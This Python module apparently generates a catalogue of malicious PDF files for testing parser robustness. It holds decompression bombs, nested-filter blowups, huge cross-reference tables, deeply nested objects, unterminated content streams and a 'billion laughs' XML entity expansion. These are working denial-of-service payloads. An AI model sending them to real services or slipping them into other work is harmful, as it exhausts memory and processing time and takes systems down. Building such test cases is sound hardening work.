"""PDFs that unpack to more than a computer can hold, or take for ever to read."""

from __future__ import annotations

import zlib
from functools import cache

from attacks.pdf_parts import TEXT, Make, image, letters, noise, with_root, zeros
from attacks.raw_pdf import BARE, PAGE, SHEET, drawing, packed, raw, stream


@cache
def nested_zeros(times: int) -> bytes:
    body = zeros(1_000_000_000)
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    return body


def _big_xref() -> bytes:
    body = raw([BARE % b"4 0 R", stream(TEXT)])
    return body.replace(b"xref\n0 5\n", b"xref\n0 99999999\n")


def _xref_stream_bomb() -> bytes:
    return _xref_stream(zeros(500_000_000), b"/Size 99999999/Filter/FlateDecode")


def _xref_stream(body: bytes, more: bytes) -> bytes:
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    index = b"5 0 obj\n" + stream(body, b"/Type/XRef/W[1 2 1]/Root 1 0 R" + more) + b"\nendobj\n"
    return head + index + b"startxref\n%d\n%%%%EOF" % len(head)


def _same_pictures(count: int, body: bytes, more: bytes, size: tuple[int, int] = (9, 9)) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"/I%d Do " % number for number in range(count))
    return drawing(content, b"/XObject<<" + names + b">>", *[image(*size, body, more)] * count)


BOMBS: dict[str, Make] = {
    "content of 1 GB": lambda: raw([BARE % b"4 0 R", stream(zeros(1_000_000_000), b"/Filter/FlateDecode")]),
    "content deflated three times": lambda: raw(
        [BARE % b"4 0 R", stream(nested_zeros(3), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")]
    ),
    "1,000 filters": lambda: raw([BARE % b"4 0 R", stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 1000 + b"]")]),
    "run lengths": lambda: raw([BARE % b"4 0 R", stream(b"\x81q" * 4_000_000, b"/Filter/RunLengthDecode")]),
    "picture of 5,000,000 runs of one byte": lambda: raw(
        [PAGE, stream(b"/A Do"), image(3, 3, b"\0x" * 5_000_000, b"/Filter/RunLengthDecode")]
    ),
    "deflated runs of one byte": lambda: raw(
        [PAGE, stream(b"/A Do"), image(3, 3, zlib.compress(b"\0x" * 5_000_000, 9), b"/Filter[/FlateDecode/RunLengthDecode]")]
    ),
    "five pictures in runs of one byte": lambda: _same_pictures(5, b"\0x" * 1_900_000, b"/Filter/RunLengthDecode"),
    "LZW": lambda: raw([BARE % b"4 0 R", stream(noise(5_000_000), b"/Filter/LZWDecode")]),
    "ASCII85 of 15 MB": lambda: raw([BARE % b"4 0 R", stream(b"z" * 15_000_000, b"/Filter/ASCII85Decode")]),
    "picture of 15 MB in ASCII85": lambda: raw(
        [PAGE, stream(b"/A Do"), image(3_000, 4_000, b"5sdq," * 3_000_000 + b"~>", b"/Filter/ASCII85Decode")]
    ),
    "object stream of 15 MB in ASCII85": lambda: raw(
        [BARE % b"4 0 R", stream(b"5sdq," * 3_000_000, b"/Type/ObjStm/N 9/First 9/Filter/ASCII85Decode")]
    ).replace(b"/Root 1 0 R", b"/Root 9 0 R"),
    "image of 1 GB": lambda: raw([PAGE, stream(b"/A Do"), image(9, 9, zeros(1_000_000_000), b"/Filter/FlateDecode")]),
    "image deflated twice": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, nested_zeros(2), b"/Filter[/FlateDecode/FlateDecode]")]
    ),
    "image in 12 layers": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, zeros(1_000_000), b"/Filter[" + b"/FlateDecode" * 12 + b"]")]
    ),
    "predictor of 2 billion columns": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, zlib.compress(bytes(100)), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000>>"),
        ]
    ),
    "100 images of 90 MB": lambda: _bomb_images(100),
    "font program of 1 GB": lambda: _font_bomb(),
    "metadata of 1 GB": lambda: with_root(
        b"/Metadata 5 0 R", stream(zeros(1_000_000_000), b"/Type/Metadata/Subtype/XML/Filter/FlateDecode")
    ),
    "cross-reference of 500 MB": _xref_stream_bomb,
    "cross-reference in LZW": lambda: _xref_stream(_literal_lzw(15_000_000), b"/Size 999/Filter/LZWDecode"),
    "cross-reference in ASCII85": lambda: _xref_stream(b"5sdq," * 3_000_000 + b"~>", b"/Size 999/Filter/ASCII85Decode"),
    "cross-reference of 99,999,999": _big_xref,
    "object stream of 1 GB": lambda: raw(
        [BARE % b"4 0 R", stream(zeros(1_000_000_000), b"/Type/ObjStm/N 9999999/First 9/Filter/FlateDecode")]
    ),
    "1,000,000 operators": lambda: drawing(b"0 0 m " * 1_000_000),
    "3,000,000 operators": lambda: drawing(b"0 0 m " * 3_000_000),
    "60 MB of operators": lambda: drawing(b"0 0 m 1 1 l S\n" * 4_300_000),
    "10 MB of one string": lambda: drawing(b"BT (" + b"a" * 10_000_000 + b") Tj ET"),
    "10 MB of brackets": lambda: drawing(b"[" * 10_000_000),
    "10 MB of open strings": lambda: drawing(b"(" * 10_000_000),
    "300,000 short strings never ended": lambda: drawing(b"(a Tj " * 300_000),
    "100,000 inline images never ended": lambda: drawing(b"BI /W 9 ID " * 100_000),
    "500,000 inline image heads": lambda: drawing(b"BI " * 500_000),
    "100,000 marks": lambda: drawing(b"/P <</MCID 0>> BDC EMC " * 100_000),
    "marks with deep dictionaries": lambda: drawing(b"/P " + b"<</A " * 100_000 + b"BDC EMC "),
    "marks with long dictionaries": lambda: drawing((b"/P <<" + b"/A 1" * 2_000 + b">> BDC EMC ") * 1_000),
    "200,000 saves": lambda: drawing(b"q " * 200_000),
    "200,000 resources": lambda: drawing(
        b"/G gs", b"/ExtGState<<" + b"".join(b"/G%d<</CA 1>>" % each for each in range(200_000)) + b">>"
    ),
    "1,000,000 objects": lambda: raw([BARE % b"4 0 R", stream(TEXT), *[b"null"] * 500_000]),
    "deep arrays": lambda: raw([BARE % (b"[" * 100_000)]),
    "deep dictionaries": lambda: raw([BARE % (b"<</A" * 100_000)]),
    "3 MB of one name": lambda: drawing(b"/" + b"a" * 3_000_000 + b" gs"),
    "entry of 10 MB in hexadecimal": lambda: raw([b"<<" + SHEET + b"/Q<" + b"41" * 5_000_000 + b">>>"]),
    "entry of 3,000,000 escapes": lambda: raw([b"<<" + SHEET + b"/Q(" + b"\\101" * 3_000_000 + b")>>"]),
    "packed entry of 10 MB": lambda: _packed_entry(5_000_000),
    "mark with 9 MB of words": lambda: drawing(b"/P<</A(" + b"a" * 9_000_000 + b")>>BDC EMC "),
    "unicode map of 20 MB": lambda: _map_bomb(),
    "unicode map of sections never ended": lambda: letters(packed(b"beginbfchar <" * 100_000)),
    "unicode maps for 40 fonts": lambda: letters(packed(b"beginbfrange " + b"]" * 1_500_000), 40),
    "unicode map of wide ranges": lambda: _map_ranges(),
    "glyph widths without end": lambda: _widths(),
    "60 forms of 11 MB of blanks": lambda: _blank_forms(60),
    "form of 45 MB of blanks": lambda: _blank_forms(1, 45_000_000),
    "1,000 letters of 10 MB of blanks": lambda: _drawn_font(1_000, b" " * 10_000_000 + b"500 0 d0"),
    "100 fonts of 10 MB of blanks": lambda: _blank_fonts(100),
    "15,000 letters, 19,000 graphics states": lambda: _drawn_font(
        15_000, b"500 0 d0 0 0 1 1 re f", b"/ExtGState<<" + b"".join(b"/a%d<<>>" % each for each in range(19_000)) + b">>"
    ),
    "590,000 names of a graphics state in escapes": lambda: drawing(
        b"/#41 gs " * 590_000, b"/ExtGState<</A<</ca .5/SMask/None>>>>"
    ),
    "590,000 turns of the page": lambda: drawing(b"/G gs " + b"1 0 0 1 0 0 cm " * 590_000, b"/ExtGState<</G<</ca .5>>>>"),
    "inline picture of 6,000,000 words": lambda: drawing(b"BI " + b"/a" * 5_900_000 + b" ID x EI"),
    "6,000,000 names of one drawing": lambda: drawing(b"/a" * 5_900_000 + b" Do"),
    "line width of 3,900,000 numbers": lambda: drawing(b"+1 " * 3_900_000 + b"w"),
    "picture of 47 MB with bytes behind it": lambda: _behind(1, 47_000_000),
    "eight pictures of 8 MB with bytes behind them": lambda: _behind(8, 8_000_000),
    "eight pictures in LZW": lambda: _same_pictures(8, _literal_lzw(2_400_000), b"/Filter/LZWDecode"),
    "300 palettes of 15 MB": lambda: _palettes(300),
    "layers asked for 60,000,000 times": lambda: _layers(3_000, 20_000),
    "layers in expressions two to the 18": lambda: _expressions(18),
    "9,000 inline pictures of 1 MB": lambda: drawing(
        (b"BI /W 1000 /H 1000 /BPC 8 /CS /G /F /Fl ID " + zlib.compress(bytes(1_000_000), 9) + b"\nEI ") * 9_000
    ),
    "XMP laughs": lambda: with_root(b"/Metadata 5 0 R", stream(_laughs(), b"/Type/Metadata/Subtype/XML")),
}


def _bomb_images(count: int) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"/I%d Do " % number for number in range(count))
    return drawing(
        content, b"/XObject<<" + names + b">>", *[image(9000, 10_000, zeros(90_000_000), b"/Filter/FlateDecode")] * count
    )


def _font_bomb() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/FontDescriptor 6 0 R>>"
    described = b"<</Type/FontDescriptor/FontName/A/Flags 32/FontFile2 7 0 R>>"
    return drawing(
        b"BT /F 9 Tf 50 50 Td (A) Tj ET",
        b"/Font<</F 5 0 R>>",
        font,
        described,
        stream(zeros(1_000_000_000), b"/Filter/FlateDecode"),
    )


def _map_font(body: bytes) -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/ToUnicode 6 0 R>>"
    return drawing(b"BT /F 9 Tf 50 50 Td (A) Tj ET", b"/Font<</F 5 0 R>>", font, packed(body))


def _map_bomb() -> bytes:
    return _map_font(b"begincmap 100 beginbfchar " + b"<41> <0041>\n" * 1_600_000 + b"endbfchar endcmap")


def _packed_entry(letters: int) -> bytes:
    """A catalogue with one long string, in an object stream of a few kilobytes."""
    out = bytearray(b"%PDF-1.7\n")
    objects = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<<" + SHEET + b">>",
        4: packed(b"1 0 <</Type/Catalog/Pages 2 0 R/Q<" + b"41" * letters + b">>>", b"/Type/ObjStm/N 1/First 4"),
    }
    rows = [bytes(7), b"\x02" + (4).to_bytes(4, "big") + bytes(2)]
    for number, body in objects.items():
        rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = packed(b"".join(rows), b"/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R")
    return bytes(out) + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def _map_ranges() -> bytes:
    return _map_font(
        b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange "
        + b"100 beginbfrange <00000000> <ffffffff> <0041> endbfrange " * 1000
        + b"endcmap"
    )


def _widths() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 99999999 500 0 99999999 500]/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>"
    return drawing(b"BT /F 9 Tf 50 50 Td <0041> Tj ET", b"/Font<</F 5 0 R>>", font, below)


def _blank_forms(count: int, size: int = 11_000_000) -> bytes:
    names = b"".join(b"/A%d %d 0 R" % (number, number + 5) for number in range(count))
    form = packed(b" " * size + b"f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return drawing(b"".join(b"/A%d Do " % number for number in range(count)), b"/XObject<<" + names + b">>", *[form] * count)


def _type3(letters: int, resources: bytes = b"") -> bytes:
    return (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.001 0 0 .001 0 0]/FirstChar 65/LastChar 66/Widths[500 500]"
        b"/Encoding<</Differences[65/c0]>>/CharProcs<<%b>>/Resources<<%b>>>>"
        % (b"".join(b"/c%d 5 0 R" % each for each in range(letters)), resources)
    )


def _drawn_font(letters: int, letter: bytes, resources: bytes = b"") -> bytes:
    return drawing(b"BT /F 9 Tf (A) Tj ET", b"/Font<</F 6 0 R>>", packed(letter), _type3(letters, resources))


def _blank_fonts(count: int) -> bytes:
    names = b"".join(b"/F%d %d 0 R" % (number, number + 6) for number in range(count))
    shown = b"".join(b"/F%d 9 Tf (A) Tj " % number for number in range(count))
    letter = packed(b" " * 10_000_000 + b"500 0 d0")
    return drawing(b"BT " + shown + b"ET", b"/Font<<" + names + b">>", letter, *[_type3(1)] * count)


def _behind(count: int, size: int) -> bytes:
    """Pictures of three tones, which are slow to pack, with a byte behind the last dot."""
    tones = bytes(b"abc"[each % 3] for each in range(256))
    row = noise(1_000_000).translate(tones)
    packer = zlib.compressobj(1)
    body = b"".join(packer.compress(row[shift:] + row[:shift]) for shift in range(size // 1_000_000)) + packer.compress(b"x")
    body += packer.flush()
    return _same_pictures(count, body, b"/Filter/FlateDecode", (1_000, size // 1_000))


def _literal_lzw(size: int) -> bytes:
    """Codes of nine bits, none of which says more than one byte."""
    codes = [256, *(65 + each % 20 for each in range(207))]  # 208 codes fill 234 bytes
    block = sum(code << 9 * place for place, code in enumerate(reversed(codes))).to_bytes(234, "big")
    return block * (size // len(block))


def _palettes(count: int) -> bytes:
    names = b"".join(b"/C%d[/Indexed/DeviceRGB 1 %d 0 R]" % (number, number + 5) for number in range(count))
    content = b"".join(b"/C%d cs " % number for number in range(count))
    return drawing(content, b"/ColorSpace<<" + names + b">>", *[packed(bytes(15_000_000))] * count)


def _layers(members: int, times: int) -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Properties<</A 5 0 R>>>>>>"
    group, draw = b"<</Type/OCMD/OCGs[" + b"6 0 R " * members + b"]/P/AllOff>>", packed(b"/OC /A BDC EMC " * times)
    root = b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>>>"
    return raw([page, draw, group, b"<</Type/OCG/Name(x)>>"], root=root)


def _expressions(levels: int) -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Properties<</A 5 0 R>>>>>>"
    inner = [b"[/And %d 0 R %d 0 R]" % (number + 7, number + 7) for number in range(levels)]
    root = b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[5 0 R]/D<<>>>>>>"
    draw = packed(b"/OC /A BDC 0 0 9 9 re f EMC")
    return raw([page, draw, b"<</Type/OCMD/VE 6 0 R>>", *inner, b"[/Or 5 0 R]"], root=root)


def _laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return f'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY l0 "ha">{levels}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&l9;</x:xmpmeta>'.encode()
